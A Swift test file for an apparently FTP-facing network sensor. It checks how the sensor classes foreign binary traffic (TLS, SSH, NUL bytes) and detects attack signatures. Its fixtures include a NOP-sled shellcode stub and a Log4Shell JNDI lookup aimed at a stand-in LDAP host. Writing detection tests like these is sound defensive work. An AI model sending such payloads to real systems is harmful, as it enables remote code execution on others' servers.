import Bytes
import FTPProtocol
import Testing

@testable import Sensor

/// Bytes of other protocols have bytes among them that look like line ends: what stands between is
/// no command, and no attack.
@Suite struct ForeignBinaryTests {
  struct Case: Sendable, CustomTestStringConvertible {
    var testDescription: String
    var sent: String
    var exploits: [String]
    var found: SessionClass = .foreign
    var rule: String
  }

  /// A TLS 1.2 hello (RFC 5246 §7.4.1.2) with `supported_groups`, whose number ends in 10.
  private static let hello =
    "\\x16\\x03\\x01\\x00\\x3d\\x01\\x00\\x00\\x39\\x03\\x03"
    + String(repeating: "\\xf1\\x00\\x91\\x05", count: 8)
    + "\\x00\\x00\\x02\\xc0\\x2f\\x01\\x00\\x00\\x0e\\x00\\x0a\\x00\\x04\\x00\\x02\\x00\\x1d"
    + "\\x00\\x17\\x00\\x02\\x01\\x00"

  static let cases: [Case] = [
    Case(testDescription: "TLS", sent: hello, exploits: ["tls-hello"], rule: "spoke tls"),
    Case(
      testDescription: "SSH",
      sent: "SSH-2.0-Go\\r\\n\\x00\\x00\\x00\\x0a\\x06\\x14\\xf1\\x00\\x91\\x05\\x00\\n\\x00",
      exploits: ["ssh", "ssh-opening"], rule: "spoke ssh"),
    Case(
      testDescription: "NULs", sent: "\\x00\\x00\\x00\\x00\\n", exploits: [], rule: "spoke binary"),
    Case(
      testDescription: "shell code", sent: "\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\xeb\\x01\\n",
      exploits: ["sled-opening"], found: .exploitation, rule: "signatures seen: sled-opening"),
    Case(
      testDescription: "HTTP with an attack",
      sent: "GET / HTTP/1.1\\r\\nX: ${jndi:ldap://192.0.2.1/a}\\r\\n\\r\\n",
      exploits: ["http", "log4shell", "http-opening"], found: .exploitation,
      rule: "signatures seen: log4shell"),
    Case(
      testDescription: "bytes before a command", sent: "\\x00\\x00\\x00\\nUSER a\\x00b\\r\\n",
      exploits: ["nul"], found: .exploitation, rule: "signatures seen: nul"),
  ]

  @Test(arguments: cases, [0, 1, 3]) func isClassed(_ test: Case, by drip: Int) throws {
    let signatures = try SignatureSet()
    var session = ServerSession(
      Stage.setting {
        $0.signatures = signatures
        $0.classifier = SessionClassifier()
      })
    let time = Timestamp(milliseconds: 1_790_000_000_000)
    var actions = session.opened(at: time)
    let bytes = Scene.bytes(test.sent)
    for start in stride(from: 0, to: bytes.count, by: drip == 0 ? bytes.count : drip) {
      let end = drip == 0 ? bytes.count : min(bytes.count, start + drip)
      actions += Array(bytes[start..<end]).withSlice { session.received($0, at: time) }
    }
    actions += session.closed(.client, at: time)
    var exploits: [String] = []
    var last: DisconnectObservation?
    for case .observe(let observation) in actions {
      if case .exploit(let signature, _, _) = observation { exploits.append(signature) }
      if case .disconnect(let end) = observation { last = end }
    }
    #expect(exploits == test.exploits)
    #expect(last?.sessionClass == test.found.rawValue)
    #expect(last?.classRule == test.rule)
  }
}
